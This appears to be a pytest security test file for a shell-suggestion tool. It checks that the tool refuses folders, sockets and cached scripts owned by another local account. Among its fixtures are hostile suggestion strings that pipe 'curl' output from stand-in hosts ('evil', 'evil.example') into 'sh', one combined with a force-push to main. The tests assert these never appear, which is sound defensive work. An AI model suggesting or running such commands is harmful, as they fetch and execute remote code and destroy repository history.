"""Another account on the same machine: its folders, symlinks and sockets are never trusted.

These tests need root, to create a throwaway user (``useradd``) and act as it; elsewhere they
are skipped, saying so. The user is removed at the end.
"""

from __future__ import annotations

import contextlib
import fcntl
import os
import pwd
import shutil
import signal
import socket
import stat
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from aprender_shell import paths
from aprender_shell.integration import integration_for
from tests.service.conftest import WAIT, train, wait_for

pytestmark = pytest.mark.skipif(
    os.geteuid() != 0 or shutil.which("useradd") is None,
    reason="needs root and useradd to create another account",
)


@pytest.fixture(scope="module")
def stranger() -> Iterator[pwd.struct_passwd]:
    name = f"aprx{os.getpid() % 100000}"
    subprocess.run(["useradd", "--no-create-home", "--shell", "/usr/sbin/nologin", name],
                   check=True, capture_output=True)
    try:
        yield pwd.getpwnam(name)
    finally:
        subprocess.run(["userdel", name], capture_output=True)


def aprender(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "aprender_shell", *args], capture_output=True,
                          text=True, timeout=WAIT, env=env)


def one_error_line(done: subprocess.CompletedProcess[str]) -> str:
    assert done.returncode == 1, (done.stdout, done.stderr)
    assert "Traceback" not in done.stderr
    lines = done.stderr.splitlines()
    assert len(lines) == 1 and lines[0].startswith("Error: "), done.stderr
    return lines[0]


def owned_by(user: pwd.struct_passwd, path: Path, mode: int = 0o755) -> Path:
    path.mkdir(parents=True, exist_ok=True)
    os.chown(path, user.pw_uid, user.pw_gid)
    os.chmod(path, mode)
    return path


def test_a_runtime_folder_symlinked_elsewhere_is_refused_and_its_target_untouched(
    stranger: pwd.struct_passwd, tmp_path: Path
) -> None:
    model = train(tmp_path / "model.apbundle")
    target = owned_by(stranger, tmp_path / "theirs", 0o755)
    paths.data_dir().mkdir(parents=True, mode=0o700)
    paths.runtime_dir().symlink_to(target)
    line = one_error_line(aprender("server", "run", "--model", str(model)))
    assert f"{paths.runtime_dir()} is a symbolic link" in line
    assert stat.S_IMODE(os.stat(target).st_mode) == 0o755  # not tightened: not ours to change
    assert list(target.iterdir()) == []
    line = one_error_line(aprender("server", "start", "--model", str(model)))
    assert "is a symbolic link" in line


def test_a_data_folder_of_another_user_is_refused_by_install_train_and_server(
    stranger: pwd.struct_passwd, tmp_path: Path, private_home: Path
) -> None:
    home = owned_by(stranger, tmp_path / "their-data", 0o755)
    env = {**os.environ, "APRENDER_SHELL_HOME": str(home), "SHELL": "/bin/zsh"}
    history = tmp_path / "history"
    history.write_text("git status\nls\n" * 20)
    for command in (["install", "--shell", "zsh"], ["init", "zsh", "--cache",
                    str(home / "init.zsh")], ["train", "--history", str(history)],
                    ["server", "run"]):
        line = one_error_line(aprender(*command, env=env))
        assert f"{home} belongs to {stranger.pw_name} (uid {stranger.pw_uid}), not to you" in line
        assert "APRENDER_SHELL_HOME" in line
    # Nothing was written where the other account could change it, nor in the rc file.
    assert list(home.iterdir()) == []
    assert not (private_home / ".zshrc").exists()


def test_a_folder_inside_one_another_user_controls_is_refused(
    stranger: pwd.struct_passwd, tmp_path: Path
) -> None:
    theirs = owned_by(stranger, tmp_path / "theirs", 0o755)
    ours = theirs / "aprender"
    ours.mkdir(mode=0o700)  # ours, but they may rename it and put their own in its place
    env = {**os.environ, "APRENDER_SHELL_HOME": str(ours)}
    line = one_error_line(aprender("server", "run", "--model", str(tmp_path / "m"), env=env))
    assert f"{theirs} belongs to {stranger.pw_name}" in line


def test_a_folder_inside_a_world_writable_one_without_sticky_bit_is_refused(
    tmp_path: Path
) -> None:
    loose = tmp_path / "loose"
    loose.mkdir()
    os.chmod(loose, 0o777)
    env = {**os.environ, "APRENDER_SHELL_HOME": str(loose / "aprender")}
    line = one_error_line(aprender("server", "run", "--model", str(tmp_path / "m"), env=env))
    assert f"{loose} is writable by every user" in line
    os.chmod(loose, 0o1777)  # like /tmp: others cannot move what is ours; accepted
    done = aprender("init", "bash", "--cache", str(loose / "aprender" / "init.bash"), env=env)
    assert done.returncode == 0, done.stderr


@pytest.mark.parametrize("shell", ["bash", "zsh"])
def test_the_rc_block_never_sources_a_saved_script_another_user_owns(
    stranger: pwd.struct_passwd, tmp_path: Path, shell: str
) -> None:
    if shutil.which(shell) is None:
        pytest.skip(f"{shell} is not installed")
    integration = integration_for(shell)
    cache = integration.cache_path()
    assert aprender("init", shell, "--cache", str(cache)).returncode == 0
    cache.write_text("echo RAN-THEIR-CODE\n")
    os.chown(cache, stranger.pw_uid, stranger.pw_gid)
    os.utime(cache)  # newer than the shipped script
    line = integration.init_line(cache=cache)
    done = subprocess.run([shell, "-c", line], capture_output=True, text=True, timeout=WAIT)
    assert "RAN-THEIR-CODE" not in done.stdout
    # The block ran 'init --cache' instead, which made the copy ours again, so later shells
    # source it fast.
    assert os.stat(cache).st_uid == os.getuid()
    assert "RAN-THEIR-CODE" not in cache.read_text()


@pytest.fixture
def their_server(stranger: pwd.struct_passwd) -> Iterator[tuple[Path, Path]]:
    """A fake server run by the other account at the socket our clients would use: it logs
    every byte it receives and answers with a dangerous suggestion."""
    home = Path(tempfile.mkdtemp(prefix="apr-their-", dir="/tmp"))
    os.chown(home, stranger.pw_uid, stranger.pw_gid)
    received = home / "received"
    child = os.fork()
    if child == 0:  # pragma: no cover - runs in the child, as the other user
        try:
            os.setgid(stranger.pw_gid)
            os.setuid(stranger.pw_uid)
            (home / "run").mkdir(mode=0o755)
            listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            listener.bind(str(home / "run" / "server.sock"))
            os.chmod(home / "run" / "server.sock", 0o777)
            listener.listen(16)
            with open(received, "ab", buffering=0) as log:
                while True:
                    conn, _ = listener.accept()
                    conn.settimeout(2)
                    with contextlib.suppress(OSError):
                        data = conn.recv(65536)
                        log.write(data)
                        conn.sendall(b'{"suggestions":[{"text":"git pu && curl evil | sh",'
                                     b'"score":1}],"status":{"pid":1,"model_path":"x"}}\n')
                    conn.close()
        finally:
            os._exit(0)
    try:
        wait_for(lambda: (home / "run" / "server.sock").exists(), what="their server")
        yield home, received
    finally:
        os.kill(child, 9)
        os.waitpid(child, 0)
        shutil.rmtree(home)


def test_clients_refuse_a_server_run_by_another_user(
    their_server: tuple[Path, Path], tmp_path: Path
) -> None:
    home, received = their_server
    env = {**os.environ, "APRENDER_SHELL_HOME": str(home)}
    model = train(tmp_path / "model.apbundle")
    done = subprocess.run(
        [sys.executable, "-m", "aprender_shell", "server", "connect", "--no-start", "--model",
         str(model)], input='{"prefix":"git p","k":1}\nsuggest\t1\t1\tbash\t\tgit p\n',
        capture_output=True, text=True, timeout=WAIT, env=env)
    assert done.returncode == 0, done.stderr
    assert "curl" not in done.stdout  # answered in-process instead
    assert done.stdout.splitlines()[1] == "suggestions\t1\tgit push"
    status = aprender("server", "status", env=env)
    assert "curl" not in status.stdout
    assert "belongs to" in one_error_line(status)  # their folder: refused, not read
    # Not one byte of a request (a typed buffer) reached their process.
    assert not received.exists() or received.read_bytes() == b""


def squat(user: pwd.struct_passwd, folder: Path, pid: int) -> int:
    """As the other account, make ``folder`` 0777, hold the server lock in it and name ``pid``
    in its pid file; returns the child holding the lock (to be killed)."""
    ready_read, ready_write = os.pipe()
    child = os.fork()
    if child == 0:  # pragma: no cover - runs in the child, as the other user
        try:
            os.setgroups([])
            os.setgid(user.pw_gid)
            os.setuid(user.pw_uid)
            folder.mkdir()
            os.chmod(folder, 0o777)
            fd = os.open(folder / "server.lock", os.O_RDWR | os.O_CREAT, 0o666)
            fcntl.flock(fd, fcntl.LOCK_EX)
            (folder / "server.pid").write_text(f"{pid}\n")
            os.write(ready_write, b"ready")
            signal.pause()
        finally:
            os._exit(0)
    os.close(ready_write)
    try:
        assert os.read(ready_read, 5) == b"ready", "the other account could not squat"
    finally:
        os.close(ready_read)
    return child


@pytest.fixture
def squatted_runtime(
    stranger: pwd.struct_passwd, victim: subprocess.Popen[bytes]
) -> Iterator[tuple[dict[str, str], Path]]:
    """``XDG_RUNTIME_DIR`` a shared sticky folder where the other account made
    ``aprender-shell/``; the environment to run our commands in, and that folder."""
    shared = Path(tempfile.mkdtemp(prefix="apr-shared-", dir="/tmp"))
    os.chmod(shared, 0o1777)
    folder = shared / "aprender-shell"
    try:
        holder = squat(stranger, folder, victim.pid)
        try:
            env = {**os.environ, "XDG_RUNTIME_DIR": str(shared)}
            del env["APRENDER_SHELL_HOME"]
            yield env, folder
        finally:
            os.kill(holder, signal.SIGKILL)
            os.waitpid(holder, 0)
    finally:
        shutil.rmtree(shared)


def refused_folder(line: str, folder: Path, user: pwd.struct_passwd) -> None:
    assert f"{folder} belongs to {user.pw_name} (uid {user.pw_uid}), not to you" in line, line


def test_status_stop_and_uninstall_never_take_a_pid_from_a_squatted_runtime_folder(
    stranger: pwd.struct_passwd, victim: subprocess.Popen[bytes],
    squatted_runtime: tuple[dict[str, str], Path],
) -> None:
    env, folder = squatted_runtime
    line = one_error_line(aprender("server", "status", env=env))
    refused_folder(line, folder, stranger)
    assert str(victim.pid) not in line  # not reported as our server
    line = one_error_line(aprender("server", "stop", env=env))
    refused_folder(line, folder, stranger)
    assert victim.poll() is None  # not signalled: a SIGTERM would have ended the sleep
    done = aprender("uninstall", env=env)
    assert done.returncode == 0, done.stderr
    assert f"Leaving {folder} alone: {folder} belongs to {stranger.pw_name}" in done.stdout
    assert str(victim.pid) not in done.stdout
    assert victim.poll() is None
    assert sorted(p.name for p in folder.iterdir()) == ["server.lock", "server.pid"]


def test_the_relay_neither_connects_nor_leaves_a_file_in_a_squatted_runtime_folder(
    squatted_runtime: tuple[dict[str, str], Path], tmp_path: Path
) -> None:
    env, folder = squatted_runtime
    marker = tmp_path / "installed"
    marker.write_text("")
    relay = Path(paths.__file__).parent / "service" / "relay.py"
    done = subprocess.run(
        [sys.executable, "-I", "-S", str(relay), "--once", str(folder / "server.sock"),
         str(marker)], input=b"suggest\t1\t1\tbash\t\tgit \n", capture_output=True,
        timeout=WAIT, env=env)
    assert done.stdout == b"error\t\tno aprender-shell server\n"
    # No start stamp written into their folder, no server started to look there.
    assert sorted(p.name for p in folder.iterdir()) == ["server.lock", "server.pid"]


EVIL = "git push --force origin main && curl -s http://evil.example/p | sh"


@pytest.fixture
def squatted_data(stranger: pwd.struct_passwd, tmp_path: Path) -> tuple[dict[str, str], Path]:
    """``APRENDER_SHELL_HOME`` a folder another account made, with a planted model and a
    0666 journal; the environment and the journal."""
    from aprender_shell.model.learned.journal import journal_path

    home = tmp_path / "their-data"
    model = train(home / paths.MODEL_FILENAME, [EVIL] * 30 + ["ls -la"] * 5)
    journal = journal_path(model)
    journal.write_bytes(b"")
    os.chmod(journal, 0o666)
    for path in (model, journal):
        os.chown(path, stranger.pw_uid, stranger.pw_gid)
    owned_by(stranger, home, 0o777)
    return {**os.environ, "APRENDER_SHELL_HOME": str(home)}, journal


def test_cold_suggest_stats_and_batch_refuse_a_squatted_data_folder(
    stranger: pwd.struct_passwd, squatted_data: tuple[dict[str, str], Path]
) -> None:
    env, journal = squatted_data
    home = journal.parent
    cold = aprender("suggest", "git ", env=env)
    refused_folder(one_error_line(cold), home, stranger)
    assert cold.stdout == ""  # nothing planted is printed
    stats = aprender("stats", env=env)
    refused_folder(one_error_line(stats), home, stranger)
    assert "Total commands" not in stats.stdout
    batch = subprocess.run(
        [sys.executable, "-m", "aprender_shell", "suggest", "--batch"],
        input='{"record":"ssh admin@db-prod-7.internal"}\n{"prefix":"git "}\n',
        capture_output=True, text=True, timeout=WAIT, env=env)
    refused_folder(one_error_line(batch), home, stranger)
    assert batch.stdout == ""
    assert journal.read_bytes() == b""  # nothing recorded where that account reads


@pytest.mark.skipif(shutil.which("fish") is None or shutil.which("socat") is None,
                    reason="needs fish and socat")
def test_fish_sends_nothing_to_a_socket_in_a_folder_another_account_owns(
    their_server: tuple[Path, Path], tmp_path: Path
) -> None:
    home, received = their_server
    marker = tmp_path / "installed"
    marker.write_text("")
    script = tmp_path / "aprender.fish"
    script.write_text(integration_for("fish").script(socket=home / "run" / "server.sock",
                                                     marker=marker))
    env = {key: value for key, value in os.environ.items() if key != "APRENDER_SHELL_NO_SOCAT"}
    env["APRENDER_SHELL_HOME"] = str(home)
    done = subprocess.run(
        ["fish", "--no-config", "--interactive", "-c",
         f"source {script}; set -q _aprender_socat[1]; and echo SOCAT; "
         "_aprender_ask suggest 1 1 fish '' 'git p'"],
        capture_output=True, text=True, timeout=WAIT, env=env)
    assert done.stdout.startswith("SOCAT\n"), done  # socat would have been used before
    assert "curl" not in done.stdout
    assert done.stdout.splitlines()[1:] == ["error\t\tno aprender-shell server"]
    # Not one byte of the typed line reached their process, nor a start stamp their folder.
    assert not received.exists() or received.read_bytes() == b""
    assert sorted(p.name for p in (home / "run").iterdir()) == ["server.sock"]


def test_a_squatted_config_folder_is_refused_by_whatever_learns(
    stranger: pwd.struct_passwd, tmp_path: Path
) -> None:
    """Its ``history_filter`` judges every command learned: another account's is never read."""
    config = owned_by(stranger, tmp_path / "their-config" / paths.APP_NAME, 0o777)
    os.chown(config.parent, stranger.pw_uid, stranger.pw_gid)
    (config / paths.HISTORY_FILTER_FILENAME).write_text("^ls\n")
    env = {key: value for key, value in os.environ.items() if key != "APRENDER_SHELL_HOME"}
    env |= {"XDG_CONFIG_HOME": str(config.parent), "XDG_DATA_HOME": str(tmp_path / "ours")}
    history = tmp_path / "history"
    history.write_text("git status\nls -la\n" * 20)
    for command in (["train", "--history", str(history)], ["update"], ["server", "run"]):
        refused_folder(one_error_line(aprender(*command, env=env)), config.parent, stranger)
    batch = subprocess.run(
        [sys.executable, "-m", "aprender_shell", "suggest", "--batch"],
        input='{"record":"ls -la"}\n', capture_output=True, text=True, timeout=WAIT, env=env)
    refused_folder(one_error_line(batch), config.parent, stranger)
    assert batch.stdout == ""
    assert not (tmp_path / "ours" / paths.APP_NAME / paths.MODEL_FILENAME).exists()
